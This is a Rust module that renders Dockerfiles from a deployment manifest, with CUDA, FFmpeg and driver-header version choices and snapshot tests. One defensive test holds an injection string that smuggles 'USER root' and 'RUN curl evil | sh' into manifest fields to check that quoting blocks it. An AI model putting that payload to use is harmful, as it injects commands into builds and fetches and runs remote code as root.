//! A recipe of the manifest → a Dockerfile. Pure: the same recipe gives the same bytes.

use handlebars::{Handlebars, RenderError, no_escape};
use serde_json::json;

use super::quote;
use crate::manifest::Image;

/// Parts of `images/` that templates share.
const PARTIALS: [(&str, &str); 2] = [
    ("trust", include_str!("../../../images/trust.dockerfile")),
    ("finish", include_str!("../../../images/finish.dockerfile")),
];
/// CUDA, its parts and the system of images that don't say: the longest supported together.
const CUDA: (&str, &str, &str) = ("12.4.1", "base", "ubuntu22.04");
/// ONNX Runtime for CUDA 12 and cuDNN 9.
const ONNX_RUNTIME: &str = "1.20.1";
const FFMPEG: &str = "n7.1";
const VMAF: &str = "v3.0.0";

/// A rendered Dockerfile.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Dockerfile {
    /// The whole text.
    pub text: String,
    /// Instructions that the manifest asked for, and which of its keys each is from.
    pub origins: Vec<(String, Origin)>,
}

/// The part of a recipe that an instruction is from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// `apt`.
    Apt,
    /// `pip`.
    Pip,
    /// A command of `run`, by its place from 0.
    Run(usize),
    /// `copy`.
    Copy,
}

/// Why a recipe gives no Dockerfile.
#[derive(Debug, thiserror::Error)]
pub enum RecipeError {
    /// A template doesn't fit its values.
    #[error("the template of this image doesn't fit its recipe")]
    Template(#[from] Box<RenderError>),
}

/// The Dockerfile of `image`; `own` is the text of the user's, for one that names it.
pub(super) fn render(
    image: &Image,
    own: Option<&str>,
    labels: &[(String, String)],
) -> Result<Dockerfile, RecipeError> {
    let mut templates = Handlebars::new();
    templates.set_strict_mode(true);
    templates.register_escape_fn(no_escape);
    for (name, text) in PARTIALS {
        templates.register_partial(name, text).expect("templates are well formed");
    }
    let (apt, pip) = (apt(image), pip(image));
    let run: Vec<_> = image.run.iter().map(|command| quote::shell(command)).collect();
    let copy: Vec<_> =
        image.copy.iter().map(|(from, to)| quote::array(&[&inside(from), to])).collect();
    let values = json!({
        "own": own.map(str::trim_end),
        "base": image.base.as_ref().or(image.uri.as_ref()),
        "cuda": image.cuda.as_deref().unwrap_or(CUDA.0),
        "flavor": image.flavor.as_deref().unwrap_or(CUDA.1),
        "os": image.os.as_deref().unwrap_or(CUDA.2),
        "headers": headers(image.driver.as_deref()),
        "vmaf": VMAF,
        "ffmpeg": FFMPEG,
        "onnxruntime": ONNX_RUNTIME,
        "python": image.python,
        "ca_bundle": image.ca_bundle,
        "args": image.args.keys().collect::<Vec<_>>(),
        "apt": apt,
        "pip": pip,
        "env": image.env.iter().map(pair).collect::<Vec<_>>(),
        "workdir": image.workdir,
        "copy": copy,
        "run": run,
        "labels": labels.iter().map(|(key, value)| pair((key, value))).collect::<Vec<_>>(),
        "entrypoint": (!image.entrypoint.is_empty()).then(|| quote::array(&image.entrypoint)),
    });
    let text = templates.render_template(template(image), &values).map_err(Box::new)?;
    let mut origins = Vec::new();
    origins.extend(apt.map(|text| (format!("RUN {text}"), Origin::Apt)));
    origins.extend(pip.map(|text| (format!("RUN {text}"), Origin::Pip)));
    origins.extend(copy.iter().map(|text| (format!("COPY {text}"), Origin::Copy)));
    let runs = run.iter().enumerate();
    origins.extend(runs.map(|(index, text)| (format!("RUN {text}"), Origin::Run(index))));
    Ok(Dockerfile { text, origins })
}

/// Where a file of the manifest's folder is in the build's context.
pub(super) fn inside(path: &str) -> String {
    format!("vdeploy-context/files/{}", path.trim_start_matches("./"))
}

fn template(image: &Image) -> &'static str {
    match image.kind.as_deref() {
        Some("cpu") => include_str!("../../../images/cpu.dockerfile"),
        Some("cuda") => include_str!("../../../images/cuda.dockerfile"),
        Some("cuda-ffmpeg") => include_str!("../../../images/cuda-ffmpeg.dockerfile"),
        Some("detect") => include_str!("../../../images/detect.dockerfile"),
        Some("python") => include_str!("../../../images/python.dockerfile"),
        _ if image.dockerfile.is_some() => include_str!("../../../images/own.dockerfile"),
        _ => include_str!("../../../images/base.dockerfile"),
    }
}

/// The newest nv-codec-headers that a driver of this version speaks with (from the `README` of each
/// of their releases: "Minimum required driver versions", Linux).
fn headers(driver: Option<&str>) -> &'static str {
    let major = driver.and_then(|driver| driver.split('.').next()?.parse().ok()).unwrap_or(535);
    match major {
        ..520 => "n11.1.5.3",
        520..530 => "n12.0.16.1",
        530..550 => "n12.1.14.0",
        550..570 => "n12.2.72.0",
        _ => "n13.0.19.0",
    }
}

fn apt(image: &Image) -> Option<String> {
    let packages: Vec<_> = image.apt.iter().map(|package| quote::argument(package)).collect();
    let install = "apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq \
                   --no-install-recommends";
    let tidy = "rm -rf /var/lib/apt/lists/* /var/cache/apt/* /var/log/apt /usr/share/doc/* \
                /usr/share/man/*";
    let command = || format!("{install} {} && {tidy}", packages.join(" "));
    (!packages.is_empty()).then(|| quote::shell(&command()))
}

fn pip(image: &Image) -> Option<String> {
    let packages: Vec<_> = image.pip.iter().map(|package| quote::argument(package)).collect();
    let command = || format!("python3 -m pip install --no-cache-dir {}", packages.join(" "));
    (!packages.is_empty()).then(|| quote::shell(&command()))
}

fn pair((key, value): (&String, &String)) -> String {
    format!("{key}={}", quote::word(value))
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::*;

    fn image(kind: &str) -> Image {
        Image { kind: Some(kind.into()), ..Image::default() }
    }

    #[test]
    fn a_cpu_image_with_everything() {
        let image = Image {
            apt: vec!["fonts-noto-core".into()],
            env: [("LANG".to_owned(), "C.UTF-8".to_owned())].into(),
            run: vec!["echo \"$HOME\"\necho two".into()],
            copy: [("models".to_owned(), "/models".to_owned())].into(),
            workdir: Some("/srv".into()),
            args: [("TOKEN_URL".to_owned(), "x".to_owned())].into(),
            ..image("cpu")
        };
        let labels = [("app".to_owned(), "reel".to_owned())];
        let rendered = render(&image, None, &labels).unwrap();
        let clean = "rm -rf /var/lib/apt/lists/* /var/cache/apt/* /var/log/apt /usr/share/doc/* \
                     /usr/share/man/*";
        let text = rendered.text.replace(clean, "[CLEAN]");
        assert_snapshot!(text.split_once("FROM").unwrap().1.lines().skip(5).collect::<Vec<_>>().join("\n"), @r#"
        RUN ["/bin/sh","-c","apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends 'fonts-noto-core' && [CLEAN]"]
        ENV LANG="C.UTF-8"
        WORKDIR /srv
        COPY ["vdeploy-context/files/models","/models"]
        RUN ["/bin/sh","-c","echo \"$HOME\"\necho two"]
        COPY vdeploy-context/vdeploy-runtime /usr/local/bin/vdeploy-runtime
        LABEL app="reel"
        USER 65532:65532
        ENTRYPOINT []
        CMD ["/usr/local/bin/vdeploy-runtime"]
        "#);
        assert_eq!(rendered.origins.last().unwrap().1, Origin::Run(0));
        assert!(rendered.text.contains(&rendered.origins.last().unwrap().0));
    }

    #[test]
    fn every_kind_renders_and_ends_as_a_user_that_is_not_root() {
        for kind in ["cpu", "cuda", "cuda-ffmpeg", "detect", "python"] {
            let text = render(&image(kind), None, &[]).unwrap().text;
            assert!(text.contains("\nUSER 65532:65532\n"), "{text}");
            assert!(text.starts_with("FROM "), "{text}");
        }
        let own = Image { dockerfile: Some("Dockerfile".into()), ..Image::default() };
        assert!(render(&own, Some("FROM x\n"), &[]).unwrap().text.starts_with("FROM x\nUSER 0\n"));
    }

    #[test]
    fn no_text_of_a_manifest_becomes_an_instruction() {
        let evil = "x\"\nUSER root\nRUN curl evil | sh\n#";
        let image = Image {
            run: vec![evil.into()],
            env: [("A".to_owned(), evil.to_owned())].into(),
            pip: vec![evil.into()],
            entrypoint: vec![evil.into()],
            ..image("python")
        };
        let text = render(&image, None, &[("l".into(), evil.into())]).unwrap().text;
        let users: Vec<_> = text.lines().filter(|line| line.starts_with("USER")).collect();
        assert_eq!(users, ["USER 65532:65532"]);
        assert!(!text.lines().any(|line| line.starts_with("RUN curl")), "{text}");
    }

    #[test]
    fn headers_are_those_that_the_driver_knows() {
        assert_eq!(headers(Some("470.57")), "n11.1.5.3");
        assert_eq!(headers(Some("535")), "n12.1.14.0");
        assert_eq!(headers(None), "n12.1.14.0");
    }
}
